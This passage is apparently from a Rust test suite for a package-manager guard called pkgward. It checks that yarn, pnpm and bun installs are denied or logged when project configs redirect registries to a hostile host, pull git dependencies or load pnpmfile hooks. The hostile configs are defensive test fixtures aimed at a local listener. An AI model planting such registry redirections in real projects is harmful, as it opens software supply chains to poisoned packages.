            &["--config=ALT_BUNFIG", "add", "pw-fam-app"],
            &[],
            &[("ALT_BUNFIG", "[install]\nregistry = \"EVIL/\"\n")],
            "ALT_BUNFIG:2",
        ),
        b(
            "bun project .npmrc",
            Bun,
            "bun",
            &app,
            &[],
            &[("work/.npmrc", "registry=EVIL/\n")],
            ".npmrc:1",
        ),
        b(
            "bun .npmrc scope",
            Bun,
            "bun",
            &["add", "@evil/pkg"],
            &[],
            &[("work/.npmrc", "@evil:registry=EVIL/\n")],
            "@evil:registry",
        ),
        b(
            "bun bun.lock tarball",
            Bun,
            "bun",
            &["install", "--frozen-lockfile"],
            &[],
            &[
                ("work/package.json", DEP_APP),
                ("work/bun.lock", bun_lock()),
            ],
            "bun.lock:12",
        ),
        b(
            "bun package.json URL dependency",
            Bun,
            "bun",
            &["install"],
            &[],
            &[(
                "work/package.json",
                "{\"dependencies\": {\"x\": \"EVIL/x.tgz\"}}",
            )],
            "package.json:1",
        ),
        // Git dependencies of the workspaces' manifests (no lockfile).
        b(
            "yarn1 workspace git dependency",
            Yarn1,
            "yarn",
            &["install"],
            &[],
            &[
                ("work/package.json", WS_ROOT),
                ("work/packages/a/package.json", &ws_member("github:evil/y")),
            ],
            "packages/a/package.json:1 declares the dependency `y` from git: github:evil/y",
        ),
        b(
            "yarn1 run in a workspace: the root's user/repo dependency",
            Yarn1,
            "yarn",
            &["--cwd", "packages/a", "install"],
            &[],
            &[
                (
                    "work/package.json",
                    "{\"private\": true, \"workspaces\": [\"packages/*\"], \"dependencies\": {\"z\": \"evil/z\"}}",
                ),
                ("work/packages/a/package.json", "{\"name\": \"a\", \"version\": \"1.0.0\"}"),
            ],
            "`z` from git: evil/z",
        ),
        b(
            "berry workspaces {packages} with **",
            Berry,
            "yarn",
            &["install"],
            &[],
            &[
                ("work/package.json", "{\"private\": true, \"workspaces\": {\"packages\": [\"libs/**\"]}}"),
                ("work/libs/x/y/package.json", &ws_member("git+ssh://git@git.example.com/y.git")),
            ],
            "libs/x/y/package.json:1",
        ),
        b(
            "pnpm-workspace.yaml member git dependency",
            Pnpm,
            "pnpm",
            &["install"],
            &[],
            &[
                ("work/package.json", "{\"name\": \"root\"}"),
                ("work/pnpm-workspace.yaml", "packages:\n  - 'pk/*'\n"),
                ("work/pk/one/package.json", &ws_member("bitbucket:evil/y")),
            ],
            "pk/one/package.json:1",
        ),
        // pnpmfiles pnpm 12 runs besides `.pnpmfile.cjs` and `pnpmfile:`.
        b(
            "PNPM_CONFIG_PNPMFILE",
            Pnpm,
            "pnpm",
            &["install"],
            &[("PNPM_CONFIG_PNPMFILE", "hooks.cjs")],
            &[("work/package.json", "{}"), ("work/hooks.cjs", "module.exports = {}\n")],
            "PNPM_CONFIG_PNPMFILE sets pnpmfile",
        ),
        b(
            "pnpm-workspace.yaml globalPnpmfile",
            Pnpm,
            "pnpm",
            &["install"],
            &[],
            &[
                ("work/package.json", "{}"),
                ("work/pnpm-workspace.yaml", "globalPnpmfile: hooks.cjs\n"),
                ("work/hooks.cjs", "module.exports = {}\n"),
            ],
            "pnpm-workspace.yaml:1 sets globalPnpmfile",
        ),
        b(
            "pnpm user/repo dependency",
            Pnpm,
            "pnpm",
            &["install"],
            &[],
            &[("work/package.json", "{\"dependencies\": {\"x\": \"evil/x\"}}")],
            "`x` from git: evil/x",
        ),
        b(
            "bun workspace git dependency",
            Bun,
            "bun",
            &["install"],
            &[],
            &[
                ("work/package.json", WS_ROOT),
                ("work/packages/a/package.json", &ws_member("gitlab:evil/y")),
            ],
            "packages/a/package.json:1",
        ),
    ]
}

/// A project root with workspaces under `packages/`.
const WS_ROOT: &str = r#"{"name":"root","private":true,"workspaces":["packages/*"]}"#;

/// A workspace package depending on `y` as `spec`.
fn ws_member(spec: &str) -> String {
    format!(r#"{{"name":"a","version":"1.0.0","dependencies":{{"y":"{spec}"}}}}"#)
}

/// Writes the case's files and returns its arguments and environment with
/// the placeholders filled in.
fn apply(g: &Guarded, b: &Bypass) -> (Vec<String>, Vec<(String, String)>) {
    let root = g.sb.root();
    let evil_url = format!("http://127.0.0.1:{}/", evil().port());
    let enc = format!("http%3A%2F%2F127.0.0.1%3A{}%2Fx.tgz", evil().port());
    let fill = |s: &str| {
        let mut s = s.replace("EVIL_ENC", &enc).replace("EVIL/", &evil_url);
        for alt in ["ALT_RC", "ALT_NPMRC", "ALT_ENV", "ALT_BUNFIG"] {
            s = s.replace(
                alt,
                &root.join(alt.to_ascii_lowercase()).display().to_string(),
            );
        }
        s
    };
    for (rel, body) in &b.files {
        let p = PathBuf::from(fill(rel));
        let p = if p.is_absolute() { p } else { root.join(p) };
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, fill(body)).unwrap();
    }
    (
        b.args.iter().map(|a| fill(a)).collect(),
        b.env.iter().map(|(k, v)| (k.clone(), fill(v))).collect(),
    )
}

fn names(g: &Guarded, b: &Bypass) -> String {
    let mut s = b
        .names
        .replace("EVIL", &format!("127.0.0.1:{}", evil().port()));
    for alt in ["ALT_RC", "ALT_NPMRC", "ALT_ENV", "ALT_BUNFIG"] {
        s = s.replace(
            alt,
            &g.sb
                .root()
                .join(alt.to_ascii_lowercase())
                .display()
                .to_string(),
        );
    }
    s
}

#[test]
fn bypass_corpus_is_denied_in_enforce_mode_before_any_request() {
    let corpus = bypass_corpus();
    assert!(corpus.len() >= 25, "the corpus has {} cases", corpus.len());
    for k in [Kind::Yarn1, Kind::Berry, Kind::Pnpm, Kind::Bun] {
        assert!(corpus.iter().filter(|b| b.kind == k).count() >= 8, "{k:?}");
    }
    let before = (evil().connections().len(), trap().connections().len());
    let mut failures = Vec::new();
    for b in &corpus {
        let (g, env) = guarded(&policy("enforce"), b.kind);
        let (args, extra) = apply(&g, b);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let extra: Vec<(&str, &str)> = extra
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let out = shimmed(&g, &env, b.program, &args, &extra);
        let err = text(&out.stderr);
        let want = names(&g, b);
        if out.status.code() != Some(77) || !err.contains("pkgward: denied") || !err.contains(&want)
        {
            failures.push(format!(
                "{}: exit {:?}, wanted `{want}` in\n{err}",
                b.name,
                out.status.code()
            ));
            continue;
        }
        if g.last_invocation()["decision"]["action"] != "deny" {
            failures.push(format!("{}: not recorded as deny", b.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} not denied:\n{}",
        failures.len(),
        corpus.len(),
        failures.join("\n")
    );
    assert_eq!(
        (evil().connections().len(), trap().connections().len()),
        before,
        "the unapproved listener (or a public host) was reached"
    );
}

/// A stand-in for the real tool that only records that it ran.
fn fake_tools(g: &Guarded) {
    for t in ["yarn", "pnpm", "pnpx", "bun", "bunx"] {
        let p = g.real.join(t);
        let _ = std::fs::remove_file(&p);
        std::fs::write(
            &p,
            "#!/bin/sh\necho \"$0 $*\" > \"$FIXTURE_MARKER_DIR/ran\"\n",
        )
        .unwrap();
        std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
}

#[test]
fn bypass_corpus_is_recorded_in_audit_mode() {
    // Fake tools (their version unknown, so both yarn lines and both pnpm
    // generations are classified): nothing is fetched, every case must be
    // recorded as a would-deny and the tool must still run.
    let corpus = bypass_corpus();
    let mut failures = Vec::new();
    for b in &corpus {
        let (g, env) = guarded(&policy("audit"), b.kind);
        fake_tools(&g);
        let (args, extra) = apply(&g, b);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let extra: Vec<(&str, &str)> = extra
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let out = shimmed(&g, &env, b.program, &args, &extra);
        let inv = g.last_invocation();
        let reasons = inv["decision"]["reasons"].to_string();
        let want = names(&g, b);
        if out.status.code() != Some(0)
            || g.sb.marker("ran").is_none()
            || inv["decision"]["action"] != "would-deny"
            || !reasons.contains(&want)
        {
            failures.push(format!(
                "{}: exit {:?}, wanted `{want}`, recorded {}\n{}",
                b.name,
                out.status.code(),
                inv["decision"],
                text(&out.stderr)
            ));
        }
        if !out.stdout.is_empty() {
            failures.push(format!("{}: pkgward wrote to stdout", b.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {}:\n{}",
        failures.len(),
        corpus.len(),
        failures.join("\n")
    );
}

// ---------------------------------------------------------------------------
// Legit corpus

#[test]
fn legit_corpus_has_no_denials() {
    use Kind::*;
    let reg = approved();
    let private = "https://npm.example.com/private/";
    // Fetch-and-execute is allowed here: this corpus is about registries.
    let pol = format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{reg}\", \"{private}\"]\n[scripts]\nexec = \"allow\"\n"
    );
    let r = |s: &str| s.replace("REG/", &reg).replace("PRIV/", private);
    let lock1 = r("# yarn lockfile v1\n\n\npw-fam-app@^1.2.0:\n  version \"1.2.0\"\n  resolved \"REG/pw-fam-app/-/pw-fam-app-1.2.0.tgz#0123456789abcdef0123456789abcdef01234567\"\n\nlocal@file:../local:\n  version \"1.0.0\"\n");
    let berry_lock = "__metadata:\n  version: 8\n  cacheKey: 10c0\n\n\"pw-fam-app@npm:^1.2.0\":\n  version: 1.2.0\n  resolution: \"pw-fam-app@npm:1.2.0\"\n  languageName: node\n  linkType: hard\n\n\"app@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: \"app@workspace:.\"\n".to_string();
    let pnpm_lock = r("lockfileVersion: '9.0'\n\npackages:\n\n  pw-fam-app@1.2.0:\n    resolution: {integrity: sha512-AAAA}\n\n  '@acme/x@1.0.0':\n    resolution: {integrity: sha512-AAAA, tarball: PRIV/@acme/x/-/x-1.0.0.tgz}\n\n  local@file:../local:\n    resolution: {directory: ../local, type: directory}\n");
    let bun_lock = r("{\n  \"lockfileVersion\": 1,\n  \"packages\": {\n    \"pw-fam-app\": [\"pw-fam-app@1.2.0\", \"\", {}, \"sha512-AAAA\"],\n    \"x\": [\"x@1.0.0\", \"PRIV/x/-/x-1.0.0.tgz\", {}, \"sha512-AAAA\"],\n    \"l\": [\"l@file:../l\", {}],\n  }\n}\n");
    let manifest = r#"{"name":"app","version":"1.0.0","dependencies":{"a":"^1.0.0","b":"npm:pw-fam-dep@^1","c":"workspace:*","d":"file:../d","e":"link:../e","f":"catalog:","g":"latest"}}"#;
    struct Legit {
        name: &'static str,
        kind: Kind,
        program: &'static str,
        args: Vec<String>,
        env: Vec<(&'static str, String)>,
        files: Vec<(&'static str, String)>,
    }
    let l = |name,
             kind,
             program,
             args: &[&str],
             env: &[(&'static str, &str)],
             files: &[(&'static str, &str)]| Legit {
        name,
        kind,
        program,
        args: args.iter().map(|a| r(a)).collect(),
        env: env.iter().map(|(k, v)| (*k, r(v))).collect(),
        files: files.iter().map(|(p, t)| (*p, r(t))).collect(),
    };
    let cases = vec![
        l("yarn --version", Yarn1, "yarn", &["--version"], &[], &[]),
        l("yarn approved --registry", Yarn1, "yarn", &["add", "x", "--registry", "REG/"], &[], &[]),
        l("yarn approved .yarnrc and .npmrc scope", Yarn1, "yarn", &["add", "@acme/x"], &[], &[("work/.yarnrc", "registry \"REG/\"\n"), ("work/.npmrc", "@acme:registry=PRIV/acme/\n")]),
        l("yarn lockfile from the approved registry", Yarn1, "yarn", &["install", "--frozen-lockfile"], &[], &[("work/yarn.lock", &lock1)]),
        l("yarn local specs", Yarn1, "yarn", &["add", "./local-pkg", "file:../x", "link:../y"], &[], &[]),
        l("yarn manifest with local and alias specs", Yarn1, "yarn", &["install"], &[], &[("work/package.json", manifest)]),
        l("yarn run is not an install", Yarn1, "yarn", &["run", "build", "--registry", "not-a-url"], &[], &[]),
        l("berry approved settings", Berry, "yarn", &["add", "@acme/x"], &[], &[("work/.yarnrc.yml", "npmRegistryServer: \"REG/\"\nunsafeHttpWhitelist: [\"127.0.0.1\", localhost]\nnpmScopes:\n  acme:\n    npmRegistryServer: \"PRIV/acme/\"\n    npmAlwaysAuth: true\nyarnPath: null\n")]),
        l("berry yarnPath ignored", Berry, "yarn", &["install"], &[("YARN_IGNORE_PATH", "1")], &[("work/.yarnrc.yml", "yarnPath: .yarn/releases/yarn.cjs\n")]),
        l("berry registry lockfile", Berry, "yarn", &["install", "--immutable"], &[], &[("work/yarn.lock", &berry_lock)]),
        l("berry approved env", Berry, "yarn", &["add", "x"], &[("YARN_NPM_REGISTRY_SERVER", "PRIV/")], &[]),
        l("pnpm --version", Pnpm, "pnpm", &["--version"], &[], &[]),
        l("pnpm approved workspace config", Pnpm, "pnpm", &["install"], &[], &[("work/pnpm-workspace.yaml", "packages:\n  - 'pkgs/*'\nregistry: REG/\nregistries:\n  PRIV/:\n    scopes: [\"@acme\"]\n    prefix: corp\n  \"@other\": PRIV/other/\nnamedRegistries:\n  work: PRIV/work/\n")]),
        l("pnpm jsr routed to an approved registry", Pnpm, "pnpm", &["add", "jsr:@std/path"], &[], &[("work/pnpm-workspace.yaml", "registries:\n  \"@jsr\": PRIV/jsr/\n")]),
        l("pnpm pnpmfile ignored", Pnpm, "pnpm", &["install", "--ignore-pnpmfile"], &[], &[("work/.pnpmfile.cjs", "module.exports = {}\n")]),
        l("pnpm lockfile", Pnpm, "pnpm", &["install", "--frozen-lockfile"], &[], &[("work/pnpm-lock.yaml", &pnpm_lock)]),
        l("pnpm approved env and flag", Pnpm, "pnpm", &["add", "x", "--config.@acme:registry=PRIV/"], &[("PNPM_CONFIG_REGISTRY", "REG/")], &[]),
        l("pnpm manifest", Pnpm, "pnpm", &["install"], &[], &[("work/package.json", manifest)]),
        l("pnpx approved tarball", Pnpm, "pnpx", &["REG/pw-fam-app/-/pw-fam-app-1.2.0.tgz"], &[], &[]),
        l("bun --version", Bun, "bun", &["--version"], &[], &[]),
        l("bun approved bunfig", Bun, "bun", &["add", "@acme/x"], &[], &[("work/bunfig.toml", "[install]\nregistry = { url = \"REG/\", token = \"$TOKEN\" }\n\n[install.scopes]\nacme = \"PRIV/acme/\"\n")]),
        l("bun lockfile", Bun, "bun", &["install", "--frozen-lockfile"], &[], &[("work/bun.lock", &bun_lock)]),
        l("bun approved env", Bun, "bun", &["add", "x"], &[("BUN_CONFIG_REGISTRY", "PRIV/")], &[]),
        l("bunx approved tarball", Bun, "bunx", &["REG/pw-fam-app/-/pw-fam-app-1.2.0.tgz"], &[], &[]),
        l("bun manifest", Bun, "bun", &["install"], &[], &[("work/package.json", manifest)]),
    ];
    let mut failures = Vec::new();
    for c in &cases {
        let (g, env) = guarded(&pol, c.kind);
        fake_tools(&g);
        // yarn: the base config of both lines, as the fake tool's version is unknown.
        configure(&g.sb, if c.kind == Yarn1 { Berry } else { Yarn1 });
        for (rel, body) in &c.files {
            let p = g.sb.root().join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, body).unwrap();
        }
        let args: Vec<&str> = c.args.iter().map(String::as_str).collect();
        let extra: Vec<(&str, &str)> = c.env.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let out = shimmed(&g, &env, c.program, &args, &extra);
        if out.status.code() != Some(0) {
            failures.push(format!("{}: {}", c.name, text(&out.stderr)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

// ---------------------------------------------------------------------------
// Mirrors forced over hostile project config, with the real tools

fn mirror_forced(kind: Kind, hostile: &[(&str, &str)], args: &[&str], forced_var: &str) {
    let reg = approved();
    let pol = format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{reg}\"]\n[mirrors]\nnpm = \"{reg}\"\n"
    );
    let (g, env) = guarded(&pol, kind);
    g.sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
    let evil_url = format!("http://127.0.0.1:{}/", evil().port());
    let mut written = Vec::new();
    for (rel, body) in hostile {
        let body = body.replace("EVIL/", &evil_url);
        let p = g.sb.write(rel, &body);
        written.push((p, body));
    }
    let before = (evil().connections().len(), trap().connections().len());
    let out = shimmed(&g, &env, tool_name(kind), args, &[]);
    assert!(
        out.status.success(),
        "{kind:?}: {}\n{}",
        text(&out.stderr),
        text(&out.stdout)
    );
    assert!(g
        .sb
        .work
        .join("node_modules/pw-fam-app/package.json")
        .is_file());
    assert!(installed(&g.sb.work, "pw-fam-dep"), "{kind:?}");
    if args.contains(&"@pwfam/scoped") {
        assert!(g
            .sb
            .work
            .join("node_modules/@pwfam/scoped/index.js")
            .is_file());
    }
    assert_eq!(
        (evil().connections().len(), trap().connections().len()),
        before,
        "{kind:?}: the hostile registry (or a public host) was contacted"
    );
    for (p, body) in written {
        assert_eq!(
            std::fs::read_to_string(&p).unwrap(),
            body,
            "{} was changed",
            p.display()
        );
    }
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow", "{inv}");
    let forced = &inv["decision"]["forced"];
    assert_eq!(forced["mirror"], reg);
    assert!(forced["env"].to_string().contains(forced_var), "{forced}");
    // The setting that took effect (the first file listed) was overridden.
    let file = Path::new(hostile[0].0)
        .file_name()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    assert!(
        forced["overridden"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["origin"]["path"]
                .as_str()
                .is_some_and(|p| p.ends_with(&file))),
        "{kind:?}: {file} not among the overridden: {forced}"
    );
}

#[test]
fn yarn1_mirror_is_forced_over_hostile_yarnrc_and_npmrc() {
    mirror_forced(
        Kind::Yarn1,
        &[
            (
                ".yarnrc",
                "registry \"EVIL/\"\n--registry \"EVIL/\"\n\"@pwfam:registry\" \"EVIL/\"\n",
            ),
            (".npmrc", "registry=EVIL/\n@pwfam:registry=EVIL/\n"),
        ],
        &["add", "pw-fam-app", "@pwfam/scoped"],
        "npm_config_@pwfam:registry",
    );
}

#[test]
fn pnpm_mirror_is_forced_over_hostile_npmrc_and_workspace() {
    mirror_forced(
        Kind::Pnpm,
        &[
            (
                "pnpm-workspace.yaml",
                "registry: EVIL/\nregistries:\n  \"@pwfam\": EVIL/\n",
            ),
            (".npmrc", "registry=EVIL/\n@pwfam:registry=EVIL/\n"),
        ],
        &["add", "pw-fam-app", "@pwfam/scoped"],
        "PNPM_CONFIG_REGISTRY",
    );
}

#[test]
fn yarn_berry_mirror_is_forced_over_a_hostile_yarnrc_yml() {
    mirror_forced(
        Kind::Berry,
        &[(".yarnrc.yml", "npmRegistryServer: \"EVIL/\"\n")],
        &["add", "pw-fam-app"],
        "YARN_NPM_REGISTRY_SERVER",
    );
}

#[test]
fn bun_mirror_is_forced_over_hostile_bunfig_and_npmrc() {
    mirror_forced(
        Kind::Bun,
        &[
            ("bunfig.toml", "[install]\nregistry = \"EVIL/\"\n"),
            (".npmrc", "registry=EVIL/\n"),
        ],
        &["add", "pw-fam-app"],
        "BUN_CONFIG_REGISTRY",
    );
}
